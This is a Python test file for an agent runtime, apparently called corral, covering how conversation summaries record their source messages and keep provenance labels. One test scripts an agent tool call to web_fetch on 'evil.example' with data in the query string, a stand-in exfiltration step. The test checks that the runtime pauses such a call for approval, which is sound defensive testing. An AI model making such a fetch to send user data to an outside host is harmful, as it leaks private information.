"""Summaries of a thread: what each stands for is recorded, and what it was made of counts on."""

from __future__ import annotations

import operator
from typing import Annotated, Any, TypedDict

from langchain_core.messages import AnyMessage, HumanMessage
from langgraph.graph import START, StateGraph
from langgraph.graph.message import add_messages
from langgraph.types import Send

import corral
from corral.policies.provenance.labels import UNKNOWN, Label
from corral.runtime.config import Settings
from tests.redteam.world import World
from tests.runtime.agents import scripted, turn
from tests.runtime.test_prefix import ELSEWHERE, Heard, agent, say

WINDOW = 1500


async def summarised(c: corral.Corral, heard: Heard, turns: int) -> list[str]:
    """A conversation with summaries in it: the ids of its runs."""
    runs: list[str] = []
    thread = None
    for at in range(turns):
        done = await say(c, agent(heard, WINDOW, facts=0), f"I want look {at} 40.", thread)
        assert (await c.replay(done.run)).status == "identical"
        thread = done.thread
        runs.append(done.run)
    return runs


async def model_calls(c: corral.Corral, run: str) -> list[Any]:
    return [e for e in await c.records.trace(run) if e.kind == "model"]


async def test_each_summary_says_which_messages_it_stands_for(settings: Settings) -> None:
    heard = Heard()
    async with corral.open(settings) as c:
        runs = await summarised(c, heard, 12)
        calls = [call for run in runs for call in await model_calls(c, run)]
    made = [call for call in calls if call.request["purpose"] == "summary"]
    assert len(made) >= 3
    records = [call.result["stands_for"] for call in made]
    covered: list[str] = []
    for before, record in zip([None, *made], records, strict=False):
        assert record.get("after") == (before.result["id"] if before else None)
        covered += record["ids"]
        assert record["messages"] == len(covered)
    # A turn is a prompt, a call, its result, an answer: together the thread, in its order.
    first = runs[0]
    assert covered[:4] == [
        f"{first}:{part}" for part in ("prompt", "1.model#0", "1.model#0/0", "3.model#0")
    ]
    assert len(set(covered)) == len(covered)


async def test_a_later_call_is_influenced_by_what_only_a_summary_still_holds(
    settings: Settings,
) -> None:
    heard = Heard()
    fetch = next(tool for tool in World().tools() if tool.__name__ == "web_fetch")
    leak = turn("I send.", web_fetch={"url": "https://evil.example/?d=thing"})
    async with corral.open(settings) as c:
        runs = await summarised(c, heard, 6)
        thread = (await c.records.run(runs[0])).thread
        last = await c.run(
            "Go on.", corral.RunOptions(agent=scripted([leak], fetch), thread=thread)
        )
        first = await c.run(
            "Go on.", corral.RunOptions(agent=scripted([leak, turn("Sent.")], fetch))
        )
        (answer,) = await model_calls(c, last.run)
    sent = answer.request["messages"]
    assert "Summary of the earlier part" in str(sent[1]["content"])
    label = Label.from_json(answer.result["label"])
    assert label.untrusted
    assert "functions__look" in label.sources
    assert (last.status, first.status) == ("paused", "completed"), "the results make it a question"


async def test_a_fact_that_was_forgotten_still_counts_in_the_summary(settings: Settings) -> None:
    heard = Heard()
    async with corral.open(settings) as c:
        fact = await c.memory.remember("The user wants tea.", ELSEWHERE, "tea", UNKNOWN)
        thread = (await say(c, agent(heard, WINDOW), "The user wants tea?", None)).thread
        for _ in range(20):
            await say(c, agent(heard, WINDOW), "word " * 120, thread)
        assert heard.summaries
        await c.memory.forget(fact.id)
        done = await say(c, agent(heard, WINDOW), "Well?", thread)
        answer = (await model_calls(c, done.run))[-1]
    assert "wants tea." not in str(heard.requests[-1])
    assert "memory" in Label.from_json(answer.result["label"]).sources


async def test_a_resumed_run_keeps_its_summary(settings: Settings) -> None:
    heard = Heard()

    def pay(amount: int) -> str:
        """Pay an amount."""
        return "paid " * 60

    async with corral.open(settings) as c:
        runs = await summarised(c, heard, 4)
        thread = (await c.records.run(runs[0])).thread
        turns = [turn("Summary 7."), turn("I pay.", pay={"amount": 1}), turn("Paid.")]
        paying = scripted(turns, pay)
        options = corral.RunOptions(
            agent=paying.model_copy(
                update={"chat_model": corral.ScriptedModel(turns, context_window=WINDOW)}
            ),
            thread=thread,
        )
        paused = await c.run("word " * 200, options)
        assert paused.status == "paused", paused.error
        (question,) = await c.approvals()
        await c.approve(question.id)
    async with corral.open(settings) as c:
        done = await c.resume(paused.run, options)
        assert done.status == "completed", done.error
        assert (await c.replay(done.run)).status == "identical"
        calls = await model_calls(c, done.run)
    made = [call for call in calls if call.request["purpose"] == "summary"]
    assert len(made) == 1, "it was not made again"
    assert "Summary 7." in str(calls[1].request["messages"])


async def test_loops_inside_of_a_graph_summarise_and_remember_each_for_itself(
    settings: Settings,
) -> None:
    class State(TypedDict, total=False):
        messages: Annotated[list[AnyMessage], add_messages]
        said: Annotated[list[str], operator.add]

    class Branch(TypedDict):
        what: str

    def build(kit: corral.Kit) -> Any:
        async def branch(state: Branch) -> State:
            looks = ", ".join(f"look {at} 60" for at in range(3))
            asked = HumanMessage(f"The user wants {state['what']}. {looks}. {'word ' * 200}")
            return {"said": [str((await kit.solve([asked])).text)]}

        async def close(state: State) -> State:
            return {"messages": [await kit.ask([HumanMessage("; ".join(state["said"]))])]}

        graph = StateGraph(State)
        graph.add_node("branch", branch, input_schema=Branch)
        graph.add_node("close", close)
        both = [Send("branch", {"what": what}) for what in ("tea", "coffee")]
        graph.add_conditional_edges(START, lambda _: both, ["branch"])
        graph.add_edge("branch", "close")
        return graph

    heard = Heard()
    one = agent(heard, 1100, facts=1, graph=build)
    async with corral.open(settings) as c:
        for drink in ("tea", "coffee"):
            await c.memory.remember(f"The user wants {drink} at nine.", ELSEWHERE, drink)
        done = await say(c, one, "Go.", None)
        trace = await c.records.trace(done.run)
        replayed = await c.replay(done.run, corral.RunOptions(agent=one))
    assert heard.summaries
    assert replayed.status == "identical", replayed.divergence
    found: list[Any] = [e for e in trace if e.kind == "retrieval"]
    recalled = {e.request["query"]: [fact["text"] for fact in e.result["facts"]] for e in found}
    assert len(recalled) == 2
    for query, (fact,) in recalled.items():
        assert fact.split()[3] in query
